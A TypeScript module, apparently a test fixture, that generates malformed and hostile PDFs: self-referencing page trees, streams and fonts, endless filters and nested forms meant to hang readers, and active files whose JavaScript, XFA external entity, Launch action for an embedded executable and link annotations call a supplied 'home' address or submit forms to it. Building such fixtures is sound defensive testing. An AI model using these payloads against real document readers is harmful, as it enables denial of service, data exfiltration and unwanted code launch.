/** PDF files that nobody would write by accident: what leads back to itself, what wants to be run, what calls home. */

const text = 'BT /F1 12 Tf 1 0 0 1 50 700 Tm (Anna Roux) Tj ET';

const stream = (entries: string, content: string): string =>
  `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;

const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** What a sound file has, from object 1 on; each hostile one replaces some, or adds others from 6 on. */
const sound: Readonly<Record<number, string>> = {
  1: '<< /Type /Catalog /Pages 2 0 R >>',
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
  4: stream('', text),
  5: font,
};

const bytes = (file: string): Uint8Array => new Uint8Array(Buffer.from(file, 'latin1'));

/** Writes objects one after the other, and tells where each stands. */
const lay = (objects: Readonly<Record<number, string>>) => {
  let body = '%PDF-1.7\n';
  const at = new Map<number, number>();
  for (const [id, object] of Object.entries(objects)) {
    at.set(Number(id), body.length);
    body += `${id} 0 obj\n${object}\nendobj\n`;
  }
  return { body, at };
};

const withTable = (
  changes: Readonly<Record<number, string>>,
  trailer: (start: number) => string = () => '',
): Uint8Array => {
  const { body, at } = lay({ ...sound, ...changes });
  const count = Math.max(...at.keys()) + 1;
  const rows = Array.from({ length: count }, (_, id) => {
    const offset = at.get(id);
    return offset === undefined
      ? '0000000000 65535 f \n'
      : `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  return bytes(
    `${body}xref\n0 ${count}\n${rows.join('')}trailer\n<< /Size ${count} /Root 1 0 R ${trailer(body.length)} >>\n` +
      `startxref\n${body.length}\n%%EOF\n`,
  );
};

/** Catalog and pages lie in an object stream, 6, which the table says lies in a stream as well: `within`. */
const withObjectStream = (within: number | null, entries = ''): Uint8Array => {
  const packed = [sound[1], sound[2]].map((object) => `${object} `);
  const index = `1 0 2 ${packed[0]?.length ?? 0} `;
  const { body, at } = lay({
    3: sound[3] ?? '',
    4: sound[4] ?? '',
    5: font,
    6: stream(`/Type /ObjStm /N 2 /First ${index.length} ${entries}`, index + packed.join('')),
  });
  const row = (kind: number, where: number, index = 0): string =>
    String.fromCharCode(kind, (where >> 8) & 255, where & 255, index);
  const inPlace = (id: number): string => row(1, at.get(id) ?? 0);
  const table = [
    row(0, 0),
    row(2, 6, 0),
    row(2, 6, 1),
    ...[3, 4, 5].map(inPlace),
    within === null ? inPlace(6) : row(2, within, 0),
    row(1, body.length),
  ].join('');
  return bytes(
    `${body}7 0 obj\n${stream('/Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R', table)}\nendobj\n` +
      `startxref\n${body.length}\n%%EOF\n`,
  );
};

const page = (entries: string): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${entries} >>`;

/** Files that lead a reader in a circle, or down without end. */
export const loops: Readonly<Record<string, Uint8Array>> = {
  'a page tree that holds itself': withTable({ 2: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
  'page trees that hold each other': withTable({
    2: '<< /Type /Pages /Kids [6 0 R] /Count 9 >>',
    6: '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 9 >>',
  }),
  'a page that is its own parent': withTable({
    3: '<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>',
  }),
  'parents in a circle': withTable({
    2: '<< /Type /Pages /Parent 6 0 R /Kids [3 0 R] /Count 1 >>',
    3: '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
    6: '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
  }),
  'an object stream that lies in itself': withObjectStream(6),
  'an object stream that extends itself': withObjectStream(null, '/Extends 6 0 R'),
  'a table that follows itself': withTable({}, (start) => `/Prev ${start}`),
  'a form that draws itself': withTable({
    3: page('/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>'),
    4: stream('', `${text} /X Do`),
    6: stream(
      '/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X 6 0 R >> >>',
      '/X Do /X Do',
    ),
  }),
  'contents whose length is themselves': withTable({
    4: `<< /Length 4 0 R >>\nstream\n${text}\nendstream`,
  }),
  'contents that are a reference to themselves': withTable({ 4: '4 0 R' }),
  'contents that are a list of themselves': withTable({ 4: '[4 0 R 4 0 R]' }),
  'a font made of itself': withTable({
    5: '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>',
  }),
  'filters without end': withTable({
    4: stream(`/Filter [${'/ASCIIHexDecode '.repeat(5_000)}]`, '41'.repeat(1_000)),
  }),
  'lists in lists in lists': withTable({
    4: `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
  }),
};

/** Thirty forms, each of which draws the next one twice: a page that is never drawn. */
export const formsInForms: Uint8Array = withTable({
  3: page('/Resources << /XObject << /X 6 0 R >> >>'),
  4: stream('', '/X Do'),
  ...Object.fromEntries(
    Array.from({ length: 30 }, (_, level) => [
      6 + level,
      stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X ${Math.min(7 + level, 35)} 0 R >> >>`,
        level < 29 ? '/X Do /X Do' : '',
      ),
    ]),
  ),
});

/** Sound files that ask whoever opens them to run something, or to call an address. */
export const activeFiles = (home: string): Readonly<Record<string, Uint8Array>> => {
  const script = `app.alert(1); app.launchURL("${home}/launch"); this.submitForm("${home}/form"); for (;;) {}`;
  const action = `<< /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`;
  const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
  return {
    'a script that runs when it is opened': withTable({
      1: catalog(`/OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript 6 0 R >>`),
      6: `<< /Names [(a) ${action}] >>`,
    }),
    'a form of its own (XFA) with a script': withTable({
      1: catalog('/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>'),
      6: stream(
        '',
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${home}/entity">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">` +
          `<template><subform><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event>&e;</subform></template></xdp:xdp>`,
      ),
    }),
    'a program that it carries': withTable({
      1: catalog(
        '/OpenAction << /S /Launch /F (a.exe) >> /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
      ),
      6: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
      7: stream('/Type /EmbeddedFile', 'MZ'.repeat(50_000)),
    }),
    'addresses that are to be called': withTable({
      1: catalog(`/OpenAction << /S /URI /URI (${home}/uri) >>`),
      3: page(`/Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R]`),
      6: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (${home}/other.pdf) >> /D [0] >> >>`,
      7: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /E << /S /SubmitForm /F << /FS /URL /F (${home}/send) >> >> >> >>`,
    }),
    'contents that lie elsewhere': withTable({
      3: page('/Resources << /Font << /F1 5 0 R >> >>').replace(
        '/Contents 4 0 R',
        '/Contents [4 0 R 6 0 R]',
      ),
      6: stream(`/F << /FS /URL /F (${home}/contents) >>`, ''),
    }),
  };
};
